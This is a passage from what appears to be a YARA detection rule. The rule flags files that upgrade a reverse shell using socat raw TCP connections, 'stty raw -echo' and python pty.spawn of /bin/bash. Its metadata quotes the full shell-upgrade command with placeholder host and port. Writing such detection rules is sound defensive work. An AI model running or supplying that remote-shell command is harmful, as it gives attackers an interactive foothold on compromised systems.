        technique = "stty raw -echo; socat file:`tty`,raw,echo=0 tcp:H:P || python3 -c 'import pty;pty.spawn(\"/bin/bash\")'"
        seen = "train9"
    strings:
        $s = /\bsocat\s{1,4}[^\n]{0,40}raw,echo=0[^\n]{0,100}\b(tcp[46]?|tcp-connect|openssl):/ nocase
        $py = /\bpty\.spawn\s{0,2}\(\s{0,2}\\?["'](\/usr)?\/bin\/(ba|z|k|da)?sh/
        $st = /\bstty\s{1,4}raw\s{1,4}-echo\b/
    condition:
        filesize < 64KB and not hs_doc_file and $s and ($py or $st)
}
